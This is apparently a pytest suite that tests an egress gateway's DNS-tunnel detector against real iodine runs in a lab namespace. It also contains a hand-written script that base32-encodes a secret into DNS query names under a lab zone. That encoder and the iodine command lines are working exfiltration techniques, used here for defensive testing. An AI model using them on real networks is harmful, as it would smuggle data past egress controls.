"""DNS tunnels on an allowed domain, end to end: the real `iodine`, and a hand-rolled encoder.

The lab DNS server delegates ``t.allowed.test`` to an ``iodined`` running in the
origin namespace (tunnel address 172.31.53.1); the sandbox's policy allows
``*.t.allowed.test``, so every tunnel query is allowed by policy: only the
detector stands in the way. Through the tunnel, the origin's TCP servers on
172.31.53.1 are reachable; their records show whether any data came through.

The gateway under test runs with the default detection settings; the last test
starts a second gateway with ``detection.dns.enabled: false`` and shows the
same iodine really tunnels there (a test of the test).
"""

from __future__ import annotations

import base64
import json
import os
import re
import secrets
import subprocess
import sys
import textwrap
import time
from datetime import datetime

import pytest

from gateway.lab import Lab
from gateway.lab.gateway import LabGateway

from gateway.lab.harness import Box, Sandboxes

ZONE = "t.allowed.test"
IODINED_PORT = 5300
SERVER_TUN = "172.31.53.1"
PASSWORD = "egw-lab-tunnel"
RULES = """
- name: lab-web
  hosts: [{matchName: allowed.test}, {matchName: api.allowed.test}]
- name: tunnel-zone
  hosts: [{matchPattern: "*.t.allowed.test"}]
"""
IODINE_TIME = 45  # seconds iodine gets to bring the tunnel up

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/sbin/iodined"), reason="needs the iodine package")


@pytest.fixture(scope="module")
def lab():
    with Lab(dns_forward={ZONE: ("127.0.0.1", IODINED_PORT)}) as lab:
        yield lab


@pytest.fixture(scope="module")
def gateway(lab):
    gw = LabGateway(lab).start(timeout=90)  # a loaded CI machine can take a while to import everything
    yield gw
    gw.stop()


@pytest.fixture(scope="module")
def iodined(lab):
    log = open(lab.work / "iodined.log", "ab")
    proc = lab.popen_in(lab.origin_ns, ["/usr/sbin/iodined", "-f", "-c", "-l", "127.0.0.1", "-p", str(IODINED_PORT),
                                        "-P", PASSWORD, f"{SERVER_TUN}/27", ZONE],
                        stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    log.close()
    deadline = time.monotonic() + 10
    while lab.run_in(lab.origin_ns, ["ip", "-4", "addr", "show", "dns0"]).stdout.find(SERVER_TUN) < 0:
        assert proc.poll() is None and time.monotonic() < deadline, (lab.work / "iodined.log").read_text()
        time.sleep(0.1)
    yield proc
    proc.terminate()
    proc.wait(5)


def _popen_in_box(gw: LabGateway, box: Box, *cmd: str, user: str = "root") -> subprocess.Popen:
    argv = [*gw._enter(), sys.executable, "-m", "gateway", "sandbox", "exec", box.name,
            "--config", str(gw.config_path), "--user", user, "--", *cmd]
    return subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            start_new_session=True)


def _stop(proc: subprocess.Popen) -> str:
    if proc.poll() is None:
        os.killpg(proc.pid, 15)
    try:
        out, _ = proc.communicate(timeout=10)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, 9)
        out, _ = proc.communicate(timeout=5)
    return out


def _iodine(gw: LabGateway, box: Box, *extra: str) -> subprocess.Popen:
    """iodine in the foreground, as root inside the sandbox (it needs a tun device), aimed at the
    sandbox's resolver address; -r: no raw UDP probe; -L0: no lazy mode (the lab's forwarding
    chain times out held queries); -M 70: one label per query, which the one-label policy
    pattern allows."""
    return _popen_in_box(gw, box, "timeout", str(IODINE_TIME), "/usr/sbin/iodine", "-f", "-r", "-L0", "-M", "70",
                         *extra, "-P", PASSWORD, box.info["gateway"], ZONE)


def _tunnel_tcp(box: Box, tries: int) -> str:
    """Try a TCP exchange with the origin through the tunnel; the first line it got back, or the error."""
    r = box.run("python3", "-c", textwrap.dedent(f"""
        import socket, time
        last = "never tried"
        for _ in range({tries}):
            try:
                s = socket.create_connection(("{SERVER_TUN}", 9999), timeout=3)
                s.settimeout(5)
                banner = s.recv(100)
                s.sendall(b"through-the-tunnel\\n")
                print(banner.decode().strip(), s.recv(100).decode().strip())
                break
            except OSError as e:
                last = repr(e)
                time.sleep(1)
        else:
            print("failed:", last)
    """), timeout=tries * 12 + 10)
    return r.stdout.strip() + r.stderr.strip()


def _wait_for(predicate, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.2)
    return predicate()


def _ts(event: dict) -> float:
    return datetime.fromisoformat(event["time"].replace("Z", "+00:00")).timestamp()


def test_iodine_through_an_allowed_domain_is_refused_and_alerted(gateway, sandboxes, lab, iodined):
    """iodine as it comes: it picks NULL queries."""
    box = sandboxes.up(RULES)
    lab.clear_records()
    proc = _iodine(gateway, box)
    try:
        assert _wait_for(lambda: box.events(event="dns", reason="dns-tunnel", alert=True), 30), \
            _stop(proc) + "\n" + json.dumps(box.events(event="dns")[-5:])
        # the tunnel never carries data: nothing reaches the origin over it
        result = _tunnel_tcp(box, tries=3)
    finally:
        out = _stop(proc)
    assert not result.startswith("lab-tcp"), result
    assert not lab.records(kind="tcp", local_addr=SERVER_TUN)
    assert "Connection setup complete" not in out, out

    alert = box.events(event="dns", reason="dns-tunnel", alert=True)
    assert len(alert) == 1, alert  # one alert per block, not one per refused query
    a = alert[0]
    assert a["decision"] == "deny" and a["dns_rcode"] == "REFUSED" and a["rule"] == "tunnel-zone"
    assert a["dns_qname"].endswith("." + ZONE)
    assert "dns tunnel under t.allowed.test" in a["detail"] and "limit" in a["detail"]
    assert a["detections"][0]["rule"].startswith("dns-tunnel:")
    # later queries under the zone, of any shape, are refused without asking upstream, and not alerted again
    r = box.run("getent", "hosts", f"www.{ZONE}")
    assert r.returncode != 0
    refused = box.events(event="dns", reason="dns-tunnel")
    assert refused[-1]["dns_qname"] == f"www.{ZONE}" and refused[-1]["dns_rcode"] == "REFUSED"
    assert all(e["dns_rcode"] == "REFUSED" and "alert" not in e for e in refused[1:])
    upstream_after = [r for r in lab.dns_records(forwarded=f"127.0.0.1:{IODINED_PORT}")
                      if r["received"] > _ts(a) + 0.2]
    assert not upstream_after, upstream_after
    # the metric: one detection with the signal as rule id
    metrics = gateway.metrics()
    assert f'egressgw_detections_total{{action="block",rule="{a["detections"][0]["rule"]}"}}' in metrics

    t0 = min(_ts(e) for e in box.events(event="dns") if e.get("dns_qname", "").endswith(ZONE))
    print("\n" + "\n".join(out.splitlines()[-6:]))
    print(f"iodine: alert {_ts(a) - t0:.2f}s after its first query; signal {a['detections'][0]['rule']}; "
          f"{len([r for r in lab.dns_records() if r.get('forwarded')])} queries reached iodined; {a['detail']}")

    # the same session keeps its other names; other sessions keep everything
    r = box.run("getent", "hosts", "allowed.test")
    assert r.returncode == 0 and "198.18.1.10" in r.stdout, r.stdout + r.stderr
    other = sandboxes.up(RULES)
    r = other.run("getent", "hosts", "api.allowed.test")
    assert r.returncode == 0 and "198.18.1.13" in r.stdout
    r = other.python(f"""
        import socket
        try:
            socket.getaddrinfo("plain.{ZONE}", 80)
        except socket.gaierror as e:
            print("gaierror", e.errno)
    """)
    assert other.events(event="dns", dns_qname=f"plain.{ZONE}")[-1]["reason"] != "dns-tunnel"


@pytest.mark.parametrize("qtype", ["A", "CNAME"])
def test_iodine_with_common_query_types_is_caught_by_its_names(gateway, sandboxes, lab, iodined, qtype):
    """iodine told to use A or CNAME queries: no uncommon-type volume to see, the names give it away."""
    box = sandboxes.up(RULES)
    lab.clear_records()
    proc = _iodine(gateway, box, "-T", qtype)
    try:
        caught = _wait_for(lambda: box.events(event="dns", reason="dns-tunnel", alert=True), 30)
        result = _tunnel_tcp(box, tries=2) if caught else "not caught"
    finally:
        out = _stop(proc)
    assert caught, out[-2000:]
    alert = box.events(event="dns", reason="dns-tunnel", alert=True)[0]
    assert alert["detections"][0]["rule"] in ("dns-tunnel:encoded", "dns-tunnel:qtype"), alert
    assert not result.startswith("lab-tcp") and not lab.records(kind="tcp", local_addr=SERVER_TUN)
    t0 = min(_ts(e) for e in box.events(event="dns") if e.get("dns_qname", "").endswith(ZONE))
    print(f"\niodine -T {qtype}: alert {_ts(alert) - t0:.2f}s after its first query "
          f"({alert['detections'][0]['rule']}); {len(lab.dns_records(forwarded=f'127.0.0.1:{IODINED_PORT}'))} "
          f"queries reached iodined; set up: {'Connection setup complete' in out}")


ENCODER = r"""
import base64, os, random, socket, struct, sys, time

secret = bytes.fromhex(sys.argv[1])
server = sys.argv[2]
zone = sys.argv[3]
text = base64.b32encode(secret).decode().rstrip("=").lower()
chunks = [text[i:i + 56] for i in range(0, len(text), 56)]

def query(name, qtype):
    qid = random.randrange(65536)
    wire = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        wire += bytes([len(label)]) + label.encode()
    wire += b"\0" + struct.pack("!HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(wire, (server, 53))
        data = s.recv(4096)
        return data[3] & 0x0F  # rcode
    except OSError:
        return -1
    finally:
        s.close()

start = time.monotonic()
codes = {}
for seq, chunk in enumerate(chunks):
    rc = query(f"{seq:03d}-{chunk}.{zone}", 16 if seq % 2 else 1)  # TXT and A, alternately
    codes[rc] = codes.get(rc, 0) + 1
print(len(chunks), round(time.monotonic() - start, 2), codes)
"""


def test_own_encoder_is_caught_before_most_of_a_secret_leaves(gateway, sandboxes, lab, iodined):
    box = sandboxes.up(RULES)
    lab.clear_records()
    secret = secrets.token_bytes(4096)
    r = box.run("python3", "-c", ENCODER, secret.hex(), box.info["gateway"], ZONE, timeout=120)
    assert r.returncode == 0, r.stderr
    total, seconds, codes = r.stdout.split(maxsplit=2)
    total = int(total)
    chunks = base64.b32encode(secret).decode().rstrip("=").lower()
    chunks = [chunks[i:i + 56] for i in range(0, len(chunks), 56)]
    assert total == len(chunks) == 118

    # sequence numbers of the chunks the upstream DNS server saw (iodine's late answers may still be recorded)
    leaked = {m.group(1) for rec in lab.dns_records()
              if (m := re.fullmatch(r"(\d{3})-[a-z2-7]+\." + re.escape(ZONE) + r"\.", rec.get("qname", "")))}
    alert = box.events(event="dns", reason="dns-tunnel", alert=True)
    assert len(alert) == 1
    first = min(_ts(e) for e in box.events(event="dns") if e.get("dns_qname", "").endswith(ZONE))
    print(f"\nencoder: {len(leaked)}/{total} chunks reached the upstream DNS server; alert after "
          f"{_ts(alert[0]) - first:.2f}s ({alert[0]['detections'][0]['rule']}); encoder rcodes {codes}")
    assert len(leaked) <= total // 10, leaked  # caught within the first tenth
    assert alert[0]["detections"][0]["rule"] == "dns-tunnel:encoded"
    refused = box.events(event="dns", reason="dns-tunnel", dns_rcode="REFUSED")
    assert len(refused) == total - len(leaked)
    # nothing of the secret in the flow log beyond the query names the log always had
    log = gateway.log_path.read_text()
    assert secret.hex() not in log and base64.b32encode(secret).decode().lower()[:200] not in log.lower()


def test_a_canary_in_one_query_name_never_reaches_upstream(gateway, sandboxes, lab):
    box = sandboxes.up(RULES)
    canary = "canary-" + secrets.token_hex(12)
    assert gateway.client().add_canaries(box.session, [canary], ["c1"]) == ["canary:c1"]
    label = base64.b32encode(canary.encode()).decode().rstrip("=").lower()
    lab.clear_records()
    r = box.run("getent", "hosts", f"{label}.{ZONE}")
    assert r.returncode != 0
    assert not [rec for rec in lab.dns_records() if label in rec.get("qname", "")]
    event = box.events(event="dns", alert=True)[-1]
    assert event["dns_qname"] == f"[REDACTED:known-value].{ZONE}" and event["dns_rcode"] == "REFUSED"
    assert event["detections"][0]["label"] == "canary:c1" and event["detections"][0]["encoding"] == "base32"
    assert label not in gateway.log_path.read_text()


@pytest.fixture
def open_gateway(gateway, sandboxes, lab):
    """A second gateway on the same lab with DNS detection off (the module's gateway is stopped first)."""
    sandboxes.cleanup()
    sandboxes.names.clear()
    gateway.stop()
    gw = LabGateway(lab, name="gw-nodetect", extra_config={"detection": {"dns": {"enabled": False}}}).start(timeout=90)
    boxes = Sandboxes(gw, sandboxes.tmp)
    yield gw, boxes
    boxes.cleanup()
    gw.stop()


def test_with_detection_off_iodine_really_tunnels(open_gateway, lab, iodined):
    gw, boxes = open_gateway
    box = boxes.up(RULES)
    lab.clear_records()
    proc = _iodine(gw, box)
    try:
        up = _wait_for(lambda: lab.run_in(box.info["netns"], ["ip", "-4", "addr", "show"]).stdout.count("172.31.53.")
                       > 0, IODINE_TIME - 5)
        result = _tunnel_tcp(box, tries=20) if up else "tunnel never came up"
    finally:
        out = _stop(proc)
    assert result == "lab-tcp through-the-tunnel", result + "\n" + out
    assert lab.records(kind="tcp", local_addr=SERVER_TUN)
    assert not box.events(reason="dns-tunnel")
